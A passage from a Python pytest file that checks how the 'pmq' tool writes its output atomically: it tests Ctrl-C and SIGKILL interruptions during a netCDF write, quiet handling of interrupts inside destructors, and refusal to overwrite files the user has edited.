                             "--horizon", "31"], stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env,
                            cwd=out.parent)


def _signal_when_writing(runs, timeout=240.0) -> dict:
    """``runs``: {name: (process, parent folder, output name, signal)}.  Send each process its
    signal as soon as it writes accounts.nc into its temporary folder; returns {name: the
    temporary folder it was writing, or None if the run ended first}."""
    seen = {k: None for k in runs}
    t0 = time.time()
    while time.time() - t0 < timeout:
        pending = [k for k, (proc, *_) in runs.items() if seen[k] is None and proc.poll() is None]
        if not pending:
            break
        for k in pending:
            proc, parent, name, sig = runs[k]
            for p in parent.glob(f".{name}.tmp-*"):
                if (p / "accounts.nc").exists():
                    proc.send_signal(sig)
                    seen[k] = p
                    break
        time.sleep(0.003)
    return seen


def _absent_or_complete(out: Path):
    if not out.exists():
        return "absent"
    import xarray as xr
    assert sorted(p.name for p in out.iterdir()) == [FILES_RECORD, "accounts.nc", "summary.csv"]
    with xr.open_dataset(out / "accounts.nc") as ds:
        assert ds.sizes["year"] == 6
    assert len(pd.read_csv(out / "summary.csv")) > 0
    return "complete"


@pytest.mark.background
def test_ctrl_c_and_sigkill_during_the_netcdf_write(tmp_path):
    """Two real runs at once (to save time): one gets Ctrl-C, one SIGKILL, while accounts.nc is
    being written.  Then: absent or complete, never partial; Ctrl-C exits non-zero and leaves no
    temporary; the next run into the killed one's place removes what it left."""
    a, b = tmp_path / "a", tmp_path / "b"
    a.mkdir()
    b.mkdir()
    pa, pb = _start(a / "res"), _start(b / "res")
    try:
        seen = _signal_when_writing({"int": (pa, a, "res", signal.SIGINT), "kill": (pb, b, "res", signal.SIGKILL)})
        _, err_a = pa.communicate(timeout=240)
        pb.communicate(timeout=240)
    finally:
        for p in (pa, pb):
            if p.poll() is None:
                p.kill()
    err_a = err_a.decode("utf-8", "replace")
    if None in seen.values():
        pytest.skip(f"a run ended before its output was being written ({seen}; machine too fast to interrupt)")
    # Ctrl-C: not 0, no traceback, no temporary left, nothing partial
    assert pa.returncode not in (0, None) and "Traceback" not in err_a, err_a
    assert _temporaries(a) == [] and _absent_or_complete(a / "res") in ("absent", "complete")
    # SIGKILL: nothing partial; the temporary (if the kill came before the final rename) is stale
    assert pb.returncode == -signal.SIGKILL
    state = _absent_or_complete(b / "res")
    stale = _temporaries(b)
    assert stale or state == "complete"          # killed while writing: its temporary folder is still there
    if stale:
        with pytest.warns(OutputNotice, match="ce que des exécutions interrompues ont laissé"):
            write_atomically(b / "res", {"summary.csv": _file})
        assert _temporaries(b) == []


def test_ctrl_c_inside_a_destructor_is_not_printed_and_still_stops_the_write(tmp_path, capsys, monkeypatch):
    """Ctrl-C can land while Python runs a destructor or a weakref callback (garbage collected during the
    netCDF write): the KeyboardInterrupt cannot propagate there and Python would print « Exception ignored
    in … » with a traceback.  pmq keeps it quiet and raises it at the next step: nothing is written."""
    class Collected:
        def __del__(self):
            signal.raise_signal(signal.SIGINT)          # the handler runs inside the destructor

    def writer(p):
        Collected()                                     # made and collected at once
        p.write_text("x", encoding="utf-8")

    printed = []                                        # what Python would print as « Exception ignored »
    monkeypatch.setattr(sys, "unraisablehook", printed.append)
    with pytest.raises(KeyboardInterrupt):
        write_atomically(tmp_path / "out", {"a.txt": writer, "b.txt": _file})
    assert printed == [] and sys.unraisablehook == printed.append      # none, and the hook is restored
    err = capsys.readouterr().err
    assert "Exception ignored" not in err and "Traceback" not in err
    assert not (tmp_path / "out").exists() and _temporaries(tmp_path) == []


def test_a_file_pmq_wrote_is_replaced_only_as_pmq_left_it(tmp_path):
    """pmq replaces a file output only if it wrote it and nobody changed it since (size and modification time in
    its folder's record); a file of the user's of the same name, or pmq's file edited by the user, is kept."""
    out = tmp_path / "out"
    write_atomically(out, {"summary.csv": lambda p: p.write_text("a,b\n1,2\n")})
    write_atomically(out, {"summary.csv": lambda p: p.write_text("a,b\n3,4\n")})       # its own: replaced
    assert "3,4" in (out / "summary.csv").read_text(encoding="utf-8-sig")
    with open(out / "summary.csv", "a", encoding="utf-8") as f:                        # the user edits it
        f.write("mes notes\n")
    before = _snapshot(out)
    with pytest.raises(OutputError, match="ne l'a pas écrit, ou il a été modifié"):
        write_atomically(out, {"summary.csv": lambda p: p.write_text("a,b\n5,6\n")})
    assert _snapshot(out) == before
    (out / FILES_RECORD).unlink()                        # no record (an older pmq's results): refused too
    (out / "summary.csv").write_text("x")
    with pytest.raises(OutputError, match="ne l'a pas écrit"):
        atomic_file(out / "summary.csv", lambda p: p.write_text("y"))
    assert (out / "summary.csv").read_text() == "x"
    atomic_file(out / "other.csv", lambda p: p.write_text("a\n1\n"))                  # a new file: recorded
    atomic_file(out / "other.csv", lambda p: p.write_text("a\n2\n"))
    assert "2" in (out / "other.csv").read_text(encoding="utf-8-sig")
